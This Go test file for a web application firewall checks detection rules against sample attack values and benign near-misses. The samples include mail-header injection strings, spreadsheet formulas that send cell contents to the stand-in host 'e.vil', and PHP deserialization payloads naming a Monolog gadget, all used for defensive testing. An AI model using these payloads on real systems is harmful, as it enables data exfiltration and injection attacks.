package waf

import (
	"encoding/base64"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// formatAttacks are the twelfth fresh-eyes attack's (attack 16) values
// for rules 210165-210167, and more of their kind.
var formatAttacks = []string{
	// 210165: mail headers, SMTP
	"a@b.c\r\nBcc: victim@x.com", "a@b.c\nCc: victim@x.com", "ann@example.com\r\nSubject: you won", "a@b.c\r\n Reply-To: e@vil.x",
	"a@b.c\r\nReturn-Path: e@vil.x", "Ann\r\nBcc: victim@x.com", "a@b.c\r\nRCPT TO:<x@y.z>",
	// 210166: formulas that send cells away
	`=HYPERLINK("http://e.vil/?x="&A1&B1,"Click")`, `=WEBSERVICE("http://e.vil/?"&A1)`, `+IMAGE("http://e.vil/p.png?"&A2)`,
	`@IMPORTXML("http://e.vil/?"&C3,"//a")`, ` =HYPERLINK("https://e.vil/?q="&A1&A2)`, `=IMPORTDATA("http://e.vil/?"&A1)`,
	`-FILTERXML(WEBSERVICE("http://e.vil/?"&A1),"//x")`,
	// 210167: PHP 5's signed lengths
	`O:+37:"Monolog\Handler\GroupHandler":1:{s:1:"x";i:1;}`, `a:1:{i:0;O:+8:"stdClass":0:{}}`, `C:+11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}`,
	`O:+8:"stdClass":+0:{}`,
}

// formatBenign are near-misses of rules 210165-210167 that pass.
var formatBenign = []string{
	"ann@example.com", "I got this:\nFrom: ann@example.com\nSubject: hi\nTo: bob@example.com", "Dear team,\r\nTo: whom it may concern",
	"ann@example.com\r\nthanks for the help", "Notes:\nCc: the manager next time", "list:\na@b.c\nd@e.f",
	`=HYPERLINK("https://example.com","Example")`, `=SUM(A1:A3)&" total"`, `=IMAGE("https://example.com/logo.png")`,
	`=A1&B1`, "= hyperlink (docs)", `@image("x")`,
	`O:8 is the room number`, `s:+1`, `O:+ rating`, `a:2:{i:0;s:1:"a";i:1;s:1:"b";}`,
}

// TestFormatRules: the rules' expressions on the values (after the
// engine's decoding) match the attacks and none of the near-misses.
func TestFormatRules(t *testing.T) {
	var res []*regexp.Regexp
	for _, m := range regexp.MustCompile(`"@rx ([^"]*(?:\\"[^"]*)*)" "id:2101(?:65|66|67),`).FindAllStringSubmatch(formatRules, -1) {
		res = append(res, regexp.MustCompile(m[1]))
	}
	if len(res) != 3 {
		t.Fatalf("%d expressions in formatRules, want 3", len(res))
	}
	matches := func(v string) bool {
		for _, re := range res {
			if re.MatchString(v) {
				return true
			}
		}
		return false
	}
	for _, v := range formatAttacks {
		if !matches(v) {
			t.Errorf("no rule matches the attack %q", v)
		}
	}
	for _, v := range formatBenign {
		if matches(v) {
			t.Errorf("a rule matches the benign %q", v)
		}
	}
}

// TestFormatRulesBeyondTheCRS: through a real Caddy, in the query, JSON,
// a form and a cookie (the PHP object also base64-encoded, which the waf
// decodes).
func TestFormatRulesBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range formatAttacks {
		misses = append(misses,
			probe{name: "query " + strconv.Quote(s), method: "GET", path: "/api/contact?v=" + url.QueryEscape(s)},
			probe{name: "JSON " + strconv.Quote(s), method: "POST", path: "/api/contact", contentType: "application/json", body: jsonString("v", s)},
			probe{name: "form " + strconv.Quote(s), method: "POST", path: "/api/contact", contentType: "application/x-www-form-urlencoded", body: "v=" + url.QueryEscape(s)})
	}
	for _, s := range []string{`O:+37:"Monolog\Handler\GroupHandler":1:{s:1:"x";i:1;}`, `a:1:{i:0;O:+8:"stdClass":0:{}}`} {
		misses = append(misses,
			probe{name: "cookie " + s, method: "GET", path: "/api/me", header: http.Header{"Cookie": {"d=" + url.QueryEscape(s)}}},
			probe{name: "base64 " + s, method: "GET", path: "/api/me?d=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(s)))})
	}
	for _, s := range formatBenign {
		if strings.ContainsAny(s, "\r\n") || strings.HasPrefix(s, "=") {
			benign = append(benign, probe{name: "JSON " + strconv.Quote(s), method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
			continue
		}
		benign = append(benign, probe{name: "query " + strconv.Quote(s), method: "GET", path: "/api/notes?v=" + url.QueryEscape(s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}
